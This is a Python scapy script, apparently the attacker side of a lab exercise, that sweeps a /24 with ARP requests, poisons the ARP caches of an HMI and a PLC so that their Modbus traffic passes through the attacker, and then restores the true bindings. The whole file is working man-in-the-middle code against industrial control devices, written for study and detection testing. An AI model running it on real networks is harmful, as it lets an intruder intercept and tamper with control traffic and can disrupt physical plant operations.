"""The attacker's side of the ARP lab, with scapy: an ARP sweep, then ARP poisoning, then a clean-up.

Timeline (seconds after start):

* ``SWEEP_AT``: ARP requests for every address of the /24 but its own, 5 ms apart (what
  ``arp-scan --localnet`` and nmap's LAN host discovery send);
* ``POISON_AT`` to ``RESTORE_AT``: every ``INTERVAL`` s a unicast ARP reply to the HMI claiming
  the PLC's address, and one to the PLC claiming the HMI's, both with the attacker's MAC (as
  ``arpspoof -t`` and ettercap do).  The attacker's kernel forwards what then arrives
  (``ip_forward=1``, ICMP redirects off), so the Modbus polling keeps working through it;
* ``RESTORE_AT``: three replies per victim with the true bindings (the "re-ARP" those tools send
  on exit, from the attacker's Ethernet address), then it stops.

Must run inside the attacker's namespace; must not write any file.

usage: arp_attack.py IFACE MY_IP HMI_IP HMI_MAC PLC_IP PLC_MAC
"""

from __future__ import annotations

import ipaddress
import sys
import time

from scapy.all import ARP, Ether, get_if_hwaddr, sendp  # type: ignore[import-untyped]

SWEEP_AT = 8.0
POISON_AT = 16.0
RESTORE_AT = 40.0
INTERVAL = 2.0


def reply(iface: str, eth_src: str, claimed_mac: str, claimed_ip: str, to_ip: str, to_mac: str) -> None:
    frame = Ether(src=eth_src, dst=to_mac) / ARP(
        op=2, hwsrc=claimed_mac, psrc=claimed_ip, hwdst=to_mac, pdst=to_ip
    )
    sendp(frame, iface=iface, verbose=False)


def main() -> None:
    iface, my_ip, hmi_ip, hmi_mac, plc_ip, plc_mac = sys.argv[1:7]
    mine = get_if_hwaddr(iface)
    start = time.monotonic()

    def wait(at: float) -> None:
        time.sleep(max(0.0, start + at - time.monotonic()))

    wait(SWEEP_AT)
    net = ipaddress.ip_network(f"{my_ip}/24", strict=False)
    for address in net.hosts():
        if str(address) == my_ip:
            continue
        frame = Ether(src=mine, dst="ff:ff:ff:ff:ff:ff") / ARP(
            op=1, hwsrc=mine, psrc=my_ip, hwdst="00:00:00:00:00:00", pdst=str(address)
        )
        sendp(frame, iface=iface, verbose=False)
        time.sleep(0.005)
    print("sweep done", flush=True)

    at = POISON_AT
    rounds = 0
    while at < RESTORE_AT:
        wait(at)
        reply(iface, mine, mine, plc_ip, hmi_ip, hmi_mac)
        reply(iface, mine, mine, hmi_ip, plc_ip, plc_mac)
        rounds += 1
        at += INTERVAL
    print(f"poisoned {rounds} rounds", flush=True)

    wait(RESTORE_AT)
    for _ in range(3):
        reply(iface, mine, plc_mac, plc_ip, hmi_ip, hmi_mac)
        reply(iface, mine, hmi_mac, hmi_ip, plc_ip, plc_mac)
        time.sleep(0.5)
    print("restored", flush=True)


if __name__ == "__main__":
    main()
